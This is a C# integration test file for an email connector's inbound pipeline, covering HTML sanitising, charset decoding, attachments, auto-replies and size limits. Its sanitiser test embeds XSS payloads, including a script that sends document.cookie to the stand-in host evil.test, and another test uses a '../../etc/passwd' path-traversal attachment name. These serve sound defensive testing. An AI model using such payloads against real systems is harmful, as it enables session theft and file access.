using System.Text;
using ContactCenter.Connectors.Email.Tests.Infrastructure;
using Dapper;
using MimeKit;

namespace ContactCenter.Connectors.Email.Tests;

/// <summary>Emails appended to a real dovecot mailbox, read by the app's IMAP reader, stored through the inbound pipeline.</summary>
public sealed class InboundEmailTests(EmailFixture fixture) : IClassFixture<EmailFixture>, IAsyncLifetime
{
    public Task InitializeAsync() => fixture.ResetEmailAsync();

    public Task DisposeAsync() => Task.CompletedTask;

    [Fact]
    public async Task Multipart_alternative_is_stored_with_text_and_sanitised_html()
    {
        var (mailbox, _) = await fixture.CreateMailboxChannelAsync();
        var message = Mail.Text(mailbox.Address, "Price list", "");
        message.Cc.Add(new MailboxAddress("Olga", "olga@customer.test"));
        message.Body = new BodyBuilder
        {
            TextBody = "Hello, what does the blue sofa cost?",
            HtmlBody = """
                <html><head><script>alert('head')</script></head><body>
                <p onclick="steal()">Hello, what does the <b>blue sofa</b> cost?</p>
                <script>document.location='https://evil.test/?c='+document.cookie</script>
                <img src="https://tracker.test/pixel.gif" onerror="alert(1)" alt="logo">
                <a href="javascript:alert(2)">click</a> <a href="https://shop.test/sofa">sofa</a>
                <div style="background-image: url(https://tracker.test/bg.gif); color: red">styled</div>
                <form action="https://evil.test"><input name="password"></form>
                </body></html>
                """,
        }.ToMessageBody();
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(message));

        await fixture.WaitForMessagesAsync(mailbox.ChannelId, 1);
        var stored = Assert.Single(await fixture.MessagesAsync(mailbox.ChannelId));
        Assert.Equal("Hello, what does the blue sofa cost?", stored.Text);
        Assert.Equal(message.MessageId, stored.ExternalId);
        Assert.Equal("Price list", stored.M("subject"));
        Assert.Equal("Olga <olga@customer.test>", stored.M("cc"));
        var html = stored.Html!;
        Assert.Contains("<b>blue sofa</b>", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("alert", html, StringComparison.Ordinal);
        Assert.DoesNotContain("onclick", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onerror", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<form", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<input", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("background-image", html, StringComparison.Ordinal);
        // Remote images are blocked: no src that a browser would load, the address kept for "show images".
        Assert.DoesNotContain(" src=", html, StringComparison.Ordinal);
        Assert.Contains("data-remote-src=\"https://tracker.test/pixel.gif\"", html, StringComparison.Ordinal);
        Assert.Equal("true", stored.M("remoteImagesBlocked"));
        Assert.Contains("href=\"https://shop.test/sofa\"", html, StringComparison.Ordinal);

        await using var db = fixture.Db();
        var contact = await db.QuerySingleAsync<(string Name, string Email)>("select name, email from contacts");
        Assert.Equal(("Ivan Petrov", Mail.Customer), contact);
    }

    [Fact]
    public async Task Koi8r_and_windows1251_bodies_and_rfc2047_subject_and_file_name_are_decoded()
    {
        var (mailbox, _) = await fixture.CreateMailboxChannelAsync();
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Raw($"""
            From: =?KOI8-R?B?6dfBzg==?= <koi@customer.test>
            To: {mailbox.Address}
            Subject: =?KOI8-R?B?8NLJ18XULCDNydI=?=
            Message-ID: <koi8@customer.test>
            MIME-Version: 1.0
            Content-Type: text/plain; charset=KOI8-R
            Content-Transfer-Encoding: 8bit
            """, "Здравствуйте! Сколько стоит доставка?", Mail.Charset("koi8-r")));

        var cp1251 = new MimeMessage();
        cp1251.From.Add(new MailboxAddress(Encoding.UTF8, "Мария", "maria@customer.test"));
        cp1251.To.Add(MailboxAddress.Parse(mailbox.Address));
        cp1251.Subject = "Счёт на оплату №42";
        cp1251.MessageId = "cp1251@customer.test";
        var body = new TextPart("plain");
        body.SetText(Mail.Charset("windows-1251"), "Пришлите, пожалуйста, счёт.");
        var file = new MimePart("application", "pdf")
        {
            Content = new MimeContent(new MemoryStream("%PDF-1.4 test"u8.ToArray())),
            ContentDisposition = new ContentDisposition(ContentDisposition.Attachment),
            ContentTransferEncoding = ContentEncoding.Base64,
            FileName = "Счёт №42.pdf",
        };
        cp1251.Body = new Multipart("mixed") { body, file };
        var options = FormatOptions.Default.Clone();
        options.International = false;
        await using (var stream = new MemoryStream())
        {
            cp1251.WriteTo(options, stream);
            var raw = Encoding.ASCII.GetString(stream.ToArray());
            Assert.Contains("=?", raw, StringComparison.Ordinal); // really RFC 2047/2231-encoded on the wire
            await fixture.Imap.AppendAsync(mailbox.Address, stream.ToArray());
        }

        await fixture.WaitForMessagesAsync(mailbox.ChannelId, 2);
        var messages = await fixture.MessagesAsync(mailbox.ChannelId);
        Assert.Equal("Здравствуйте! Сколько стоит доставка?", messages[0].Text);
        Assert.Equal("Привет, мир", messages[0].M("subject"));
        Assert.Equal("Пришлите, пожалуйста, счёт.", messages[1].Text);
        Assert.Equal("Счёт на оплату №42", messages[1].M("subject"));
        await using var db = fixture.Db();
        Assert.Equal("Иван", await db.ExecuteScalarAsync<string>("select name from contacts where email = 'koi@customer.test'"));
        var attachment = await db.QuerySingleAsync<(string FileName, string ContentType, long Size, string StoragePath)>(
            "select file_name, content_type, size, storage_path from attachments");
        Assert.Equal("Счёт №42.pdf", attachment.FileName);
        Assert.Equal("application/pdf", attachment.ContentType);
        Assert.Equal(13, attachment.Size);
    }

    [Fact]
    public async Task Attachment_named_with_a_path_is_stored_under_its_clean_name_and_served()
    {
        var (mailbox, _) = await fixture.CreateMailboxChannelAsync();
        var message = Mail.Text(mailbox.Address, "Files", "");
        var builder = new BodyBuilder { TextBody = "See attached." };
        builder.Attachments.Add("../../etc/passwd", "root:x:0:0"u8.ToArray(), new ContentType("text", "plain"));
        var image = builder.LinkedResources.Add("logo.png", [0x89, 0x50, 0x4E, 0x47], new ContentType("image", "png"));
        image.ContentId = "logo@customer.test";
        builder.HtmlBody = "<p>See attached.</p><img src=\"cid:logo@customer.test\">";
        message.Body = builder.ToMessageBody();
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(message));

        await fixture.WaitForMessagesAsync(mailbox.ChannelId, 1);
        await using var db = fixture.Db();
        var files = (await db.QueryAsync<(long Id, string FileName, long Size)>("select id, file_name, size from attachments order by file_name")).ToList();
        Assert.Equal(["logo.png", "passwd"], files.Select(f => f.FileName));
        Assert.Equal(4, files[0].Size);
        using var http = fixture.App.Http(fixture.AdminToken);
        var download = await http.GetAsync($"/api/attachments/{files[1].Id}");
        download.EnsureSuccessStatusCode();
        Assert.Equal("root:x:0:0", await download.Content.ReadAsStringAsync());
        var stored = Assert.Single(await fixture.MessagesAsync(mailbox.ChannelId));
        Assert.Contains("data-cid=\"logo@customer.test\"", stored.Html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Quoted_history_and_signature_are_trimmed_for_the_preview_and_the_full_text_is_kept()
    {
        var (mailbox, _) = await fixture.CreateMailboxChannelAsync();
        var full = """
            Yes, Tuesday works for us.

            --
            Ivan Petrov, Acme Ltd.
            +7 900 000-00-00

            On Mon, 23 Nov 2026 at 10:00, Sales <sales@shop.test> wrote:
            > Can we deliver on Tuesday?
            > Best regards
            """;
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(Mail.Text(mailbox.Address, "Re: Delivery", full)));

        await fixture.WaitForMessagesAsync(mailbox.ChannelId, 1);
        var stored = Assert.Single(await fixture.MessagesAsync(mailbox.ChannelId));
        Assert.Equal("Yes, Tuesday works for us.", stored.Text);
        Assert.Contains("> Can we deliver on Tuesday?", stored.M("fullText"), StringComparison.Ordinal);
        Assert.Contains("Ivan Petrov, Acme Ltd.", stored.M("fullText"), StringComparison.Ordinal);
        await using var db = fixture.Db();
        Assert.Equal("Yes, Tuesday works for us.", await db.ExecuteScalarAsync<string>("select data->>'preview' from timeline_entries where type = 'message'"));
    }

    [Fact]
    public async Task Auto_replies_are_stored_and_marked_and_mail_from_our_own_address_is_ignored()
    {
        var (mailbox, _) = await fixture.CreateMailboxChannelAsync();
        var outOfOffice = Mail.Auto(mailbox.Address, "Automatic reply: Your order", "I am out of office until Monday.", "away@customer.test", "Auto-Submitted", "auto-replied");
        var bulk = Mail.Auto(mailbox.Address, "Newsletter", "Our news", "news@customer.test", "Precedence", "bulk");
        var vacation = Mail.Auto(mailbox.Address, "Vacation", "On vacation", "vacation@customer.test", "X-Autoreply", "yes");
        var nullSender = Mail.Auto(mailbox.Address, "Notice", "System notice", "system@customer.test", "Return-Path", "<>");
        var own = Mail.Text(mailbox.Address, "Copy of our reply", "This is our own mail", from: mailbox.Address);
        var person = Mail.Text(mailbox.Address, "Question", "A real question", from: "person@customer.test");
        person.Headers.Add("Auto-Submitted", "no");
        foreach (var m in new[] { outOfOffice, bulk, vacation, nullSender, own, person })
        {
            await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(m));
        }

        await fixture.WaitUntilAsync(async () =>
        {
            await using var db = fixture.Db();
            return await db.ExecuteScalarAsync<long>("select last_uid from email_mailbox_state") == 6;
        }, "all six UIDs processed");
        var messages = await fixture.MessagesAsync(mailbox.ChannelId);
        Assert.Equal(5, messages.Count);
        Assert.DoesNotContain(messages, m => m.Text == "This is our own mail");
        var flagged = messages.Where(m => m.M("autoReply") == "true").Select(m => m.M("autoReplyReason")).ToList();
        Assert.Equal(["Auto-Submitted: auto-replied", "Precedence: bulk", "X-Autoreply: yes", "Return-Path: <>"], flagged);
        Assert.Null(messages.Single(m => m.Text == "A real question").M("autoReply"));
        await using var db2 = fixture.Db();
        Assert.Equal(0, await db2.ExecuteScalarAsync<long>("select count(*) from contacts where email = @address", new { address = mailbox.Address }));
        Assert.Equal(0, await db2.ExecuteScalarAsync<long>("select count(*) from messages where direction = 'outbound'"));
    }

    [Fact]
    public async Task A_poison_message_is_stored_with_a_warning_and_does_not_block_the_next_ones()
    {
        var (mailbox, _) = await fixture.CreateMailboxChannelAsync();
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(Mail.Text(mailbox.Address, "Before", "before the poison")));
        await fixture.Imap.AppendAsync(mailbox.Address, Encoding.UTF8.GetBytes(
            "this line is not a header and breaks the MIME parser\r\nFrom: Broken <broken@customer.test>\r\nSubject: ???\r\n\r\nsome \0 body text\r\n"));
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(Mail.Text(mailbox.Address, "After 1", "after the poison 1")));
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(Mail.Text(mailbox.Address, "After 2", "after the poison 2")));

        await fixture.WaitForMessagesAsync(mailbox.ChannelId, 4);
        var messages = await fixture.MessagesAsync(mailbox.ChannelId);
        Assert.Equal(["before the poison", null, "after the poison 1", "after the poison 2"],
            messages.Select(m => m.Text!.StartsWith("after", StringComparison.Ordinal) || m.Text.StartsWith("before", StringComparison.Ordinal) ? m.Text : null));
        var poison = messages[1];
        Assert.Contains("could not be read", poison.M("warning"), StringComparison.Ordinal);
        Assert.Contains("this line is not a header", poison.Text, StringComparison.Ordinal);
        Assert.StartsWith("sha256:", poison.ExternalId, StringComparison.Ordinal);
        Assert.Null(messages[2].M("warning"));
    }

    [Fact]
    public async Task A_text_over_the_size_limit_is_stored_whole_or_from_its_beginning_never_dropped()
    {
        var (mailbox, _) = await fixture.CreateMailboxChannelAsync();
        // 150 KB of Russian text, quoted-printable (~450 KB as sent): over the fixture's 300,000-byte limit on its own,
        // under the 2 MB read of a text. It was dropped: the email was stored with the note alone.
        var longText = RussianLines(150_000) + "Последняя строка, без перевода строки";
        var whole = Mail.Text(mailbox.Address, "Журнал за ноябрь", "");
        whole.Body = new TextPart("plain") { Text = longText, ContentTransferEncoding = ContentEncoding.QuotedPrintable };
        // 2.5 MB in base64 (3.4 MB as the server holds it): the first 2 MB of that are fetched and decoded, and the text
        // is then cut to the 200,000 characters every channel's message text is cut to.
        var hugeText = RussianLines(2_500_000);
        var huge = Mail.Text(mailbox.Address, "Выгрузка из 1С", "");
        huge.Body = new TextPart("plain") { Text = hugeText, ContentTransferEncoding = ContentEncoding.Base64 };
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(whole));
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(huge));

        await fixture.WaitForMessagesAsync(mailbox.ChannelId, 2);
        var stored = await fixture.MessagesAsync(mailbox.ChannelId);
        Assert.Equal(longText.Trim(), stored[0].Text!.ReplaceLineEndings("\n").Trim());
        Assert.Equal("true", stored[0].M("oversized"));
        Assert.Contains("only its text was stored", stored[0].M("warning"), StringComparison.Ordinal);
        Assert.DoesNotContain("Only the first", stored[0].M("warning"), StringComparison.Ordinal);

        var beginning = stored[1].Text!.ReplaceLineEndings("\n");
        Assert.Equal(200_000, beginning.Length);
        Assert.StartsWith(beginning, hugeText, StringComparison.Ordinal);
        Assert.Contains("Only the first 2 MB of its text (3.4 MB as sent) were read.", stored[1].M("warning"), StringComparison.Ordinal);
        Assert.Equal(huge.MessageId, stored[1].ExternalId);
    }

    [Fact]
    public async Task Text_and_html_over_the_size_limit_in_a_multipart_email_keep_their_beginnings_in_the_right_charset()
    {
        var (mailbox, _) = await fixture.CreateMailboxChannelAsync();
        // A mailer's multipart/alternative, each part base64 and over the limit on its own; the plain part names no charset
        // (the UTF-8 check of such a part decides its charset: a cut inside a letter made it read as KOI8-R).
        var plain = RussianLines(2_500_000);
        var html = "<html><body>" + string.Concat(RussianLines(2_500_000).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => $"<p>{l}</p>\n"));
        var message = Mail.Text(mailbox.Address, "Отчёт", "");
        var textPart = new TextPart("plain") { Text = plain, ContentTransferEncoding = ContentEncoding.Base64 };
        textPart.ContentType.Parameters.Remove("charset");
        message.Body = new MultipartAlternative
        {
            textPart,
            new TextPart("html") { Text = html, ContentTransferEncoding = ContentEncoding.Base64 },
        };
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(message));

        await fixture.WaitForMessagesAsync(mailbox.ChannelId, 1);
        var stored = (await fixture.MessagesAsync(mailbox.ChannelId))[0];
        Assert.StartsWith("Строка 000001: заказ на поставку", stored.Text, StringComparison.Ordinal);
        Assert.StartsWith(stored.Text!.ReplaceLineEndings("\n"), plain, StringComparison.Ordinal);
        Assert.Contains("<p>Строка 000001: заказ на поставку, счёт приложен, ждём оплату</p>", stored.Html, StringComparison.Ordinal);
        Assert.Matches(@"Only the first 2 MB of its text \(\d\.\d MB as sent\) and HTML \(\d\.\d MB as sent\) were read\.", stored.M("warning"));
    }

    private static string RussianLines(int bytes)
    {
        var text = new StringBuilder();
        for (var line = 1; Encoding.UTF8.GetByteCount(text.ToString()) < bytes; line += 1000)
        {
            for (var i = line; i < line + 1000; i++)
            {
                text.Append(System.Globalization.CultureInfo.InvariantCulture, $"Строка {i:D6}: заказ на поставку, счёт приложен, ждём оплату\n");
            }
        }
        return text.ToString();
    }

    [Fact]
    public async Task An_oversized_message_is_stored_with_its_text_and_a_note_but_without_its_attachments()
    {
        var (mailbox, _) = await fixture.CreateMailboxChannelAsync();
        var message = Mail.Text(mailbox.Address, "Big scan", "");
        var builder = new BodyBuilder { TextBody = "The scan is attached." };
        builder.Attachments.Add("scan.bin", new byte[EmailFixture.MaxMessageBytes + 50_000], new ContentType("application", "octet-stream"));
        message.Body = builder.ToMessageBody();
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(message));
        await fixture.Imap.AppendAsync(mailbox.Address, Mail.Bytes(Mail.Text(mailbox.Address, "Small", "small one")));

        await fixture.WaitForMessagesAsync(mailbox.ChannelId, 2);
        var stored = (await fixture.MessagesAsync(mailbox.ChannelId))[0];
        Assert.Equal("The scan is attached.", stored.Text);
        Assert.Equal("true", stored.M("oversized"));
        Assert.Contains("over the", stored.M("warning"), StringComparison.Ordinal);
        Assert.Contains("scan.bin", stored.M("warning"), StringComparison.Ordinal);
        Assert.Equal(message.MessageId, stored.ExternalId);
        Assert.Equal(0, await fixture.CountAsync("attachments"));
    }
}
